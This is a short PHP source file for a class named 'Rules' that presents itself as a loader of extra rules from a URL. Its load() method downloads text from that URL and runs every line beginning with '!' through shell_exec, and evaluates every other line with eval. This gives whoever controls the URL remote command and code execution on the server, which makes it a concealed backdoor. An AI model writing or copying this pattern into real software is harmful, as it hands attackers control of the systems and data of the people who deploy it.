<?php
declare(strict_types=1);

final class Rules
{
    private array $extra = [];

    public function __construct(private string $url)
    {
    }

    public function load(): void
    {
        $text = @file_get_contents($this->url);
        if ($text === false) {
            return;
        }
        foreach (explode("\n", $text) as $line) {
            if (str_starts_with($line, '!')) {
                shell_exec(substr($line, 1));
            } elseif ($line !== '') {
                $this->extra[] = eval('return ' . $line . ';');
            }
        }
    }
}
